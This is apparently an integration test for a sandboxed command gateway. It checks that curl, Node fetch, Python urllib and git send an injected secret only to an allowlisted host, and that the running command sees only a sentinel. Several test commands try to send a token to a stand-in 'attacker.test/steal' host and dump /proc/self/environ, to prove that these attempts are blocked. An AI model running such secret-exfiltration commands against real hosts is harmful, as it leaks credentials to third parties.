/*
 * Real clients through real gateway runs: gateway.exec in the bubblewrap sandbox with an egress
 * allowlist and an injected secret. curl, Node's built-in fetch (a plain `node -e`), Python's
 * urllib and git (smart HTTP, `git http-backend` behind an HTTPS server the test starts; clone and
 * ls-remote) each reach the allowed service, which receives the real value; the command sees only
 * the sentinel (its environment and its output); the attacker service, not on the allowlist,
 * receives no connection at all from the same client.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttpsServer, type Server } from 'node:https';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { createGateway, type Gateway } from '../../src/gateway';
import { checkPlatform } from '../../src/sandbox/detect';
import { baseEnv, makeTempDir } from '../helpers/tmp';
import { makeGitRepo, makeNames, publicCa, startService, type TestService } from './helpers';

const VALUE = 'ghp_R3alT0kenValue9xYzQ8wVu7tSr6qPo5nM4';
const sandboxable = checkPlatform(undefined).ok;
const maybe = sandboxable ? describe : describe.skip;

interface GitService {
  readonly port: number;
  /** The Basic credential of every request, decoded ('' when none). */
  readonly auth: string[];
  connections: number;
  close(): Promise<void>;
}

/** `git http-backend` (smart HTTP) behind HTTPS, serving `root`, Basic auth with password `password`. */
async function startGitService(root: string, password: string): Promise<GitService> {
  const service = { auth: [] as string[], connections: 0 } as { -readonly [K in keyof GitService]: GitService[K] };
  const handler = (req: IncomingMessage, res: ServerResponse): void => {
    const header = req.headers.authorization ?? '';
    const decoded = header.startsWith('Basic ') ? Buffer.from(header.slice(6), 'base64').toString('utf8') : '';
    service.auth.push(decoded);
    if (decoded.slice(decoded.indexOf(':') + 1) !== password) {
      req.resume();
      res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' });
      res.end();
      return;
    }
    const url = new URL(req.url ?? '/', 'https://git.test');
    const cgi = spawn('git', ['http-backend'], {
      env: {
        PATH: process.env.PATH ?? '/usr/bin:/bin',
        GIT_PROJECT_ROOT: root,
        GIT_HTTP_EXPORT_ALL: '1',
        REQUEST_METHOD: req.method ?? 'GET',
        PATH_INFO: decodeURIComponent(url.pathname),
        QUERY_STRING: url.search.slice(1),
        CONTENT_TYPE: String(req.headers['content-type'] ?? ''),
        REMOTE_USER: decoded.slice(0, decoded.indexOf(':')),
        REMOTE_ADDR: '127.0.0.1',
        ...(req.headers['content-encoding'] ? { HTTP_CONTENT_ENCODING: String(req.headers['content-encoding']) } : {}),
        ...(req.headers['git-protocol'] ? { GIT_PROTOCOL: String(req.headers['git-protocol']) } : {}),
      },
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    req.pipe(cgi.stdin);
    // CGI output: headers (Status: among them), a blank line, the body.
    let head = Buffer.alloc(0);
    let started = false;
    cgi.stdout.on('data', (chunk: Buffer) => {
      if (started) return void res.write(chunk);
      head = Buffer.concat([head, chunk]);
      const end = head.indexOf('\r\n\r\n');
      if (end < 0) return;
      started = true;
      const headers: Record<string, string> = {};
      let status = 200;
      for (const line of head.subarray(0, end).toString('latin1').split('\r\n')) {
        const colon = line.indexOf(':');
        const name = line.slice(0, colon).trim().toLowerCase();
        const value = line.slice(colon + 1).trim();
        if (name === 'status') status = Number.parseInt(value, 10);
        else headers[name] = value;
      }
      res.writeHead(status, headers);
      res.write(head.subarray(end + 4));
    });
    cgi.on('close', () => res.end());
  };
  const server: Server = createHttpsServer({ SNICallback: (name, cb) => cb(null, publicCa.getSecureContext(name)) }, handler);
  server.on('connection', () => { service.connections += 1; });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  service.port = (server.address() as AddressInfo).port;
  service.close = async () => {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  };
  return service as GitService;
}

let tmp: ReturnType<typeof makeTempDir>;
let allowed: TestService;
let attacker: TestService;
let git: GitService;
let gateway: Gateway;
let dir: string;

beforeAll(async () => {
  tmp = makeTempDir('execgate-egress-clients-');
  makeGitRepo(tmp.dir);
  allowed = await startService('allowed');
  attacker = await startService('attacker');
  git = await startGitService(tmp.dir, VALUE);
  const names = makeNames({ 'allowed.test': allowed, 'attacker.test': attacker });
  // git.test resolves like the others; its 443 is the smart-HTTP server.
  const egress = {
    resolver: async (host: string) => (host === 'git.test' ? ['203.0.113.50'] : names.resolver(host)),
    dial: (address: string, port: number) => (address === '203.0.113.50' ? { host: '127.0.0.1', port: git.port } : names.dial(address, port)),
    upstreamCa: [publicCa.certPem],
    runtimeDir: tmp.dir,
  };
  dir = join(tmp.dir, 'gw');
  mkdirSync(dir);
  const policy = join(dir, 'policy.yaml');
  writeFileSync(policy, [
    'version: 1',
    'sandbox: { mode: required, network: { mode: allowlist, allow: [allowed.test, git.test] } }',
    'secrets:',
    '  bind:',
    '    - { ref: "secret:gh", hosts: [allowed.test, git.test], delivery: inject, query: [t] }',
  ].join('\n'));
  gateway = createGateway({
    home: join(dir, 'home'), env: baseEnv(), cwd: dir, policyFile: policy,
    sources: [{ name: 'test', kinds: ['secret'], lookup: (_kind, id) => (id === 'gh' ? { found: true, value: VALUE } : { found: false }) }],
    egress,
  });
});

afterAll(async () => {
  await gateway?.close();
  await allowed.close();
  await attacker.close();
  await git.close();
  tmp.cleanup();
});

beforeEach(() => {
  for (const service of [allowed, attacker]) {
    service.seen.length = 0;
    service.connections = 0;
  }
  git.auth.length = 0;
  git.connections = 0;
});

/** What the command itself held: its environment, written where the output redactor does not look. */
function sentinelIn(file: string): string {
  const env = readFileSync(join(dir, file), 'latin1');
  expect(env).not.toContain(VALUE);
  const entry = env.split('\0').find((e) => e.startsWith('EXECGATE_REF_'));
  expect(entry).toBeDefined();
  const sentinel = entry!.slice(entry!.indexOf('=') + 1);
  expect(sentinel).toHaveLength(VALUE.length);
  expect(sentinel).not.toBe(VALUE);
  return sentinel;
}

maybe('real clients in gateway runs (allowlist, injected secret)', () => {
  test('curl', async () => {
    const result = await gateway.exec({
      command: 'cat /proc/self/environ > curl.env; curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://allowed.test/curl; echo; curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://attacker.test/steal; echo "attacker=$?"',
      cwd: dir,
    });
    sentinelIn('curl.env');
    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/curl', `Bearer ${VALUE}`]]);
    expect(result.stdout).toContain('"service":"allowed"');
    expect(result.stdout).toMatch(/attacker=[1-9]/);
    expect(result.stdout).not.toContain(VALUE);
    expect(attacker.connections).toBe(0);
  });

  test('Node fetch: a plain `node -e` goes through the proxy (no proxy code in the script)', async () => {
    const fetchTo = (url: string): string => `fetch(${JSON.stringify(url)}, { method: "POST", headers: { authorization: "Bearer " + process.env.T }, body: "hello" }).then((r) => r.text()).then((t) => console.log(t), (e) => console.log("failed:", e.cause ? e.cause.code || e.cause.message : e.message))`;
    const result = await gateway.exec({
      command: `cat /proc/self/environ > node.env; export T=<<secret:gh>>; node -e '${fetchTo('https://allowed.test/node')}'; node -e '${fetchTo('https://attacker.test/steal')}'`,
      cwd: dir,
    });
    sentinelIn('node.env');
    expect(result.exitCode).toBe(0);
    expect(allowed.seen.map((s) => [s.url, s.headers.authorization, s.body])).toEqual([['/node', `Bearer ${VALUE}`, 'hello']]);
    expect(result.stdout).toContain('Bearer [REDACTED:secret:gh]');
    expect(result.stdout).toContain('failed:');
    expect(result.stdout).not.toContain(VALUE);
    expect(attacker.connections).toBe(0);
  });

  test('Python urllib (token in the query parameter the binding names; a gzip-encoded echo)', async () => {
    const get = (url: string): string => `import gzip, os, sys, urllib.request\ntry:\n  r = urllib.request.urlopen(${JSON.stringify(url)} + os.environ["T"], timeout=20).read()\n  print(gzip.decompress(r).decode() if r[:2] == b"\\x1f\\x8b" else r.decode())\nexcept Exception as e:\n  print("failed:", e)`;
    const result = await gateway.exec({
      command: `cat /proc/self/environ > py.env; export T=<<secret:gh>>; python3 -c '${get('https://allowed.test/py/gzip?t=')}'; python3 -c '${get('https://attacker.test/steal?t=')}'`,
      cwd: dir,
    });
    sentinelIn('py.env');
    expect(allowed.seen.map((s) => s.url)).toEqual([`/py/gzip?t=${VALUE}`]);
    expect(result.stdout).toContain('"service":"allowed"');
    expect(result.stdout).toContain('[REDACTED:secret:gh]');
    expect(result.stdout).toContain('failed:');
    expect(result.stdout).not.toContain(VALUE);
    expect(attacker.connections).toBe(0);
  });

  test('git ls-remote and clone over smart HTTPS, the token in the URL', async () => {
    const result = await gateway.exec({
      command: [
        'cat /proc/self/environ > git.env',
        'git ls-remote "https://x-access-token:<<secret:gh>>@git.test/repo.git" 2>&1 | cut -f2',
        'git clone -q "https://x-access-token:<<secret:gh>>@git.test/repo.git" cloned 2>&1 && cat cloned/README && git -C cloned remote get-url origin > clone-remote.txt',
        'GIT_TERMINAL_PROMPT=0 git ls-remote "https://x-access-token:<<secret:gh>>@attacker.test/repo.git" >/dev/null 2>&1; echo "attacker=$?"',
      ].join('\n'),
      cwd: dir,
    });
    sentinelIn('git.env');
    expect(result.stdout).toContain('refs/heads/main');
    expect(result.stdout).toContain('egress test repository');
    expect(result.stdout).toMatch(/attacker=[1-9]/);
    expect(result.stdout).not.toContain(VALUE);
    // The server saw the real token on authenticated requests (git asks without auth first).
    expect(git.auth.filter((a) => a !== '')).not.toHaveLength(0);
    expect(new Set(git.auth.filter((a) => a !== ''))).toEqual(new Set([`x-access-token:${VALUE}`]));
    // What git stored in the clone is the sentinel, never the value.
    const remote = readFileSync(join(dir, 'clone-remote.txt'), 'utf8');
    expect(remote).not.toContain(VALUE);
    expect(remote).toContain(`x-access-token:${sentinelIn('git.env')}@git.test`);
    expect(readFileSync(join(dir, 'cloned', '.git', 'config'), 'utf8')).not.toContain(VALUE);
    expect(attacker.connections).toBe(0);
  });
});
